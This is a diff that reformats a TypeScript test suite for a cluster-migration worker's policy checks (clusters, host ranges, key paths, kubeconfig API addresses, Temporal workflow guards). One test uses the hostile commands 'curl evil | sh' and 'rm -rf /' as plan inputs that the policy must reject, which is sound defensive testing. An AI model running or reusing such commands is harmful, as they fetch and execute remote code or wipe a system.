@@ -72,13 +72,25 @@ describe('policy rules on a plan', () => {
 
   it('names the rule a plan breaks', () => {
     expect(rule(() => checkPlanAgainstPolicy(allowAll, plan))).toBe('allowed');
-    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, clusters: ['staging'] }, plan))).toMatch(/^clusters: .*cluster "prod-bj" is not one this worker may migrate/);
-    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, hostCIDRs: ['10.200.20.0/28'] }, plan))).toMatch(/^hostCIDRs: .*master-1 \(10\.200\.20\.101\) is outside/);
+    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, clusters: ['staging'] }, plan))).toMatch(
+      /^clusters: .*cluster "prod-bj" is not one this worker may migrate/,
+    );
+    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, hostCIDRs: ['10.200.20.0/28'] }, plan))).toMatch(
+      /^hostCIDRs: .*master-1 \(10\.200\.20\.101\) is outside/,
+    );
     expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, privateKeyPaths: ['/etc/cpmigrate/key'] }, plan))).toMatch(/^privateKeyPaths: /);
     expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, knownHostsPaths: [] }, plan))).toMatch(/^knownHostsPaths: /);
-    const withCommands = { ...plan, etcd: { ...plan.etcd, prepareDataDir: [] }, keepalived: { ...plan.keepalived, service: { type: 'commands' as const, start: 'curl evil | sh', stop: 'true', status: 'true' } } };
-    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, allowCommandServices: false }, withCommands))).toMatch(/^allowCommandServices: .*keepalived use `commands` services/);
-    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, allowCommandServices: false }, { ...plan, etcd: { ...plan.etcd, prepareDataDir: ['rm -rf /'] } }))).toMatch(/^allowCommandServices: .*prepareDataDir/);
+    const withCommands = {
+      ...plan,
+      etcd: { ...plan.etcd, prepareDataDir: [] },
+      keepalived: { ...plan.keepalived, service: { type: 'commands' as const, start: 'curl evil | sh', stop: 'true', status: 'true' } },
+    };
+    expect(rule(() => checkPlanAgainstPolicy({ ...allowAll, allowCommandServices: false }, withCommands))).toMatch(
+      /^allowCommandServices: .*keepalived use `commands` services/,
+    );
+    expect(
+      rule(() => checkPlanAgainstPolicy({ ...allowAll, allowCommandServices: false }, { ...plan, etcd: { ...plan.etcd, prepareDataDir: ['rm -rf /'] } })),
+    ).toMatch(/^allowCommandServices: .*prepareDataDir/);
   });
 });
 
@@ -91,7 +103,29 @@ describe('checked right before connecting', () => {
 
   beforeAll(async () => {
     sshd = await startSshd({ address: '127.0.14.51', name: 'master-1' });
-    execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', `${pki}/k.pem`, '-out', `${pki}/c.pem`, '-days', '1', '-subj', '/CN=127.0.14.52', '-addext', 'subjectAltName=IP:127.0.14.52'], { stdio: 'ignore' });
+    execFileSync(
+      'openssl',
+      [
+        'req',
+        '-x509',
+        '-newkey',
+        'ec',
+        '-pkeyopt',
+        'ec_paramgen_curve:prime256v1',
+        '-nodes',
+        '-keyout',
+        `${pki}/k.pem`,
+        '-out',
+        `${pki}/c.pem`,
+        '-days',
+        '1',
+        '-subj',
+        '/CN=127.0.14.52',
+        '-addext',
+        'subjectAltName=IP:127.0.14.52',
+      ],
+      { stdio: 'ignore' },
+    );
     const { readFileSync } = await import('node:fs');
     https = createServer({ key: readFileSync(`${pki}/k.pem`), cert: readFileSync(`${pki}/c.pem`) }, (req, res) => {
       seen.push({ auth: req.headers.authorization, cert: false });
@@ -125,9 +159,14 @@ describe('checked right before connecting', () => {
 
   it('kube: the admin kubeconfig is not loaded for an API server outside apiServerAddresses', () => {
     const kc = path.join(dir, 'admin.conf');
-    writeFileSync(kc, `apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {server: "https://203.0.113.9:6443"}\nusers:\n- name: u\n  user: {token: "s3cr3t-token"}\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\ncurrent-context: x\n`);
+    writeFileSync(
+      kc,
+      `apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {server: "https://203.0.113.9:6443"}\nusers:\n- name: u\n  user: {token: "s3cr3t-token"}\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\ncurrent-context: x\n`,
+    );
     usePolicy({ ...allowAll, apiServerAddresses: ['10.200.20.100'] });
-    expect(() => loadKubeConfigFile(kc)).toThrow(/worker policy \(apiServerAddresses\): kubeconfig .* server https:\/\/203\.0\.113\.9:6443 is not an API address/);
+    expect(() => loadKubeConfigFile(kc)).toThrow(
+      /worker policy \(apiServerAddresses\): kubeconfig .* server https:\/\/203\.0\.113\.9:6443 is not an API address/,
+    );
     usePolicy({ ...allowAll, apiServerAddresses: ['203.0.113.0/24'] });
     expect(loadKubeConfigFile(kc).getCurrentCluster()?.server).toBe('https://203.0.113.9:6443');
   });
@@ -169,10 +208,21 @@ describe('on the dev server', () => {
     usePolicy({ ...allowAll, clusters: ['prod-bj'] });
     const other = testPlan({ cluster: uniqueCluster('foreign') });
     const { activities, calls, lockCalls } = recordingActivities();
-    const worker = await Worker.create({ connection, taskQueue: `${TASK_QUEUE}-policy`, workflowsPath: path.join(__dirname, '..', 'src', 'workflows', 'index.ts'), activities: withPolicyGuard(activities) });
-    const client = new (await import('@temporalio/client')).Client({ connection: await (await import('@temporalio/client')).Connection.connect({ address: server.address }) });
+    const worker = await Worker.create({
+      connection,
+      taskQueue: `${TASK_QUEUE}-policy`,
+      workflowsPath: path.join(__dirname, '..', 'src', 'workflows', 'index.ts'),
+      activities: withPolicyGuard(activities),
+    });
+    const client = new (await import('@temporalio/client')).Client({
+      connection: await (await import('@temporalio/client')).Connection.connect({ address: server.address }),
+    });
     await worker.runUntil(async () => {
-      const h = await client.workflow.start(WORKFLOW_TYPE, { taskQueue: `${TASK_QUEUE}-policy`, workflowId: workflowIdFor(other.cluster), args: [{ plan: other }] });
+      const h = await client.workflow.start(WORKFLOW_TYPE, {
+        taskQueue: `${TASK_QUEUE}-policy`,
+        workflowId: workflowIdFor(other.cluster),
+        args: [{ plan: other }],
+      });
       const err = await h.result().catch((e: unknown) => e);
       expect(err).toBeInstanceOf(WorkflowFailedError);
       const cause = ((err as WorkflowFailedError).cause as Error & { cause?: Error & { type?: string } }).cause;
